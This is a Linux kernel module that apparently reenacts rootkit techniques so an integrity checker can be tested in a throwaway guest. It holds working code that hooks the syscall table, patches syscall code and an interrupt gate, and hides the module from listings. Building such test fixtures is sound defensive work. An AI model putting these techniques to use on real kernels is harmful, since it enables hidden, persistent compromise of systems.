// SPDX-License-Identifier: GPL-2.0
/*
 * What rootkits do to a kernel, one deed at a time, for tests of `ringfence integrity` in a guest that is thrown away. The deed is written to
 * /sys/module/rf_rootkit/parameters/deed; the next one, `none` too, takes it back first. The system call that is tampered with (acct) is one that
 * nobody makes meanwhile, so no care is taken of who may be executing what changes.
 */
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/unistd.h>

#define VICTIM "__x64_sys_acct"
/* overflow: INTO is no instruction of 64-bit programs, and nobody says `int $4` */
#define VECTOR 4
#define DISPATCHER_SIZE 16384
#define NEAR_BYTES 5
#define CALL 0xe8
#define JUMP 0xe9
#define KEPT_MAX 16

/* Bytes that were changed, to be put back. */
static struct {
	unsigned long at;
	unsigned int size;
	u8 bytes[KEPT_MAX];
} kept;

static noinline asmlinkage long rf_hook(void)
{
	return -ENOSYS;
}

/* It is exported to nobody, as most of what is needed here: rootkits ask kprobes for it. */
static unsigned long address_of(const char *name)
{
	static unsigned long (*lookup)(const char *name);
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };

	if (!lookup) {
		if (register_kprobe(&probe))
			return 0;
		lookup = (void *)probe.addr;
		unregister_kprobe(&probe);
	}
	return lookup(name);
}

static struct page *page_of(unsigned long address)
{
	unsigned int level;
	pte_t *entry = lookup_address(address, &level);
	unsigned long pages;

	if (!entry)
		return NULL;
	/* an entry of a higher level stands for many pages */
	pages = page_level_size(level) / PAGE_SIZE;
	return pfn_to_page((level == PG_LEVEL_2M ? pmd_pfn(*(pmd_t *)entry) : pte_pfn(*entry)) + (address / PAGE_SIZE) % pages);
}

/* Through a mapping of its own: code, tables and the IDT can't be written to where they are. */
static int overwrite(unsigned long at, const void *bytes, unsigned int size)
{
	struct page *pages[] = { page_of(at), page_of(at + size - 1) };
	void *window;

	if (!pages[0] || !pages[1])
		return -EFAULT;
	window = vmap(pages, pages[0] == pages[1] ? 1 : 2, VM_MAP, PAGE_KERNEL);
	if (!window)
		return -ENOMEM;
	memcpy(window + offset_in_page(at), bytes, size);
	vunmap(window);
	return 0;
}

static int change(unsigned long at, const void *bytes, unsigned int size)
{
	int error;

	memcpy(kept.bytes, (void *)at, size);
	error = overwrite(at, bytes, size);
	if (!error) {
		kept.at = at;
		kept.size = size;
	}
	return error;
}

static void put_back(void)
{
	overwrite(kept.at, kept.bytes, kept.size);
}

static int change_table(void)
{
	unsigned long table = address_of("sys_call_table");
	unsigned long hook = (unsigned long)rf_hook;

	return table ? change(table + __NR_acct * sizeof(long), &hook, sizeof(hook)) : -ENOENT;
}

static int lead_away(unsigned long at, u8 opcode)
{
	u8 code[NEAR_BYTES] = { opcode };
	s32 distance = (long)rf_hook - (long)(at + NEAR_BYTES);

	memcpy(code + 1, &distance, sizeof(distance));
	return change(at, code, sizeof(code));
}

static int change_entry(void)
{
	unsigned long victim = address_of(VICTIM);

	return victim ? lead_away(victim, JUMP) : -ENOENT;
}

/* The jump, or call, of the dispatcher that leads to the system call. */
static int change_dispatcher(void)
{
	unsigned long dispatcher = address_of("x64_sys_call");
	unsigned long victim = address_of(VICTIM);

	if (!dispatcher || !victim)
		return -ENOENT;
	for (unsigned long at = dispatcher; at < dispatcher + DISPATCHER_SIZE; at++) {
		u8 opcode = *(u8 *)at;

		if ((opcode == CALL || opcode == JUMP) && at + NEAR_BYTES + *(s32 *)(at + 1) == victim)
			return lead_away(at, opcode);
	}
	return -ESRCH;
}

static int change_interrupt(void)
{
	struct desc_ptr table;
	gate_desc gate;

	store_idt(&table);
	memcpy(&gate, (void *)(table.address + VECTOR * sizeof(gate)), sizeof(gate));
	gate.offset_low = (u16)(unsigned long)rf_hook;
	gate.offset_middle = (u16)((unsigned long)rf_hook >> 16);
	gate.offset_high = (u32)((unsigned long)rf_hook >> 32);
	return change(table.address + VECTOR * sizeof(gate), &gate, sizeof(gate));
}

static void notrace look_on(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *registers)
{
}

static struct ftrace_ops tracer = { .func = look_on };

static int trace(void)
{
	int error = ftrace_set_filter(&tracer, VICTIM, sizeof(VICTIM) - 1, 1);

	return error ?: register_ftrace_function(&tracer);
}

static void trace_no_more(void)
{
	unregister_ftrace_function(&tracer);
}

static struct kprobe probe;

static int set_probe(void)
{
	/* what was found for the last one has to go */
	memset(&probe, 0, sizeof(probe));
	probe.symbol_name = VICTIM;
	return register_kprobe(&probe);
}

static void take_probe(void)
{
	unregister_kprobe(&probe);
}

static struct list_head *neighbour;

static int hide(void)
{
	neighbour = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	return 0;
}

static void show(void)
{
	list_add(&THIS_MODULE->list, neighbour);
}

static const struct deed {
	const char *name;
	int (*do_it)(void);
	void (*undo)(void);
} deeds[] = {
	{ "table", change_table, put_back },
	{ "entry", change_entry, put_back },
	{ "dispatcher", change_dispatcher, put_back },
	{ "interrupt", change_interrupt, put_back },
	{ "ftrace", trace, trace_no_more },
	{ "kprobe", set_probe, take_probe },
	{ "hide", hide, show },
}, *done;

static void undo(void)
{
	if (done)
		done->undo();
	done = NULL;
}

static int set_deed(const char *value, const struct kernel_param *parameter)
{
	int error;

	undo();
	if (sysfs_streq(value, "none"))
		return 0;
	for (const struct deed *deed = deeds; deed < deeds + ARRAY_SIZE(deeds); deed++) {
		if (!sysfs_streq(value, deed->name))
			continue;
		error = deed->do_it();
		if (!error)
			done = deed;
		return error;
	}
	return -EINVAL;
}

static const struct kernel_param_ops deed_operations = { .set = set_deed };
module_param_cb(deed, &deed_operations, NULL, 0200);

/* Once and for all: without its directory nobody can tell it to come back. */
static bool vanish;
module_param(vanish, bool, 0);

static int __init rf_rootkit_begin(void)
{
	if (vanish) {
		hide();
		kobject_del(&THIS_MODULE->mkobj.kobj);
	}
	return 0;
}

static void __exit rf_rootkit_end(void)
{
	undo();
}

module_init(rf_rootkit_begin);
module_exit(rf_rootkit_end);
MODULE_DESCRIPTION("What rootkits do to a kernel, for tests");
MODULE_LICENSE("GPL");
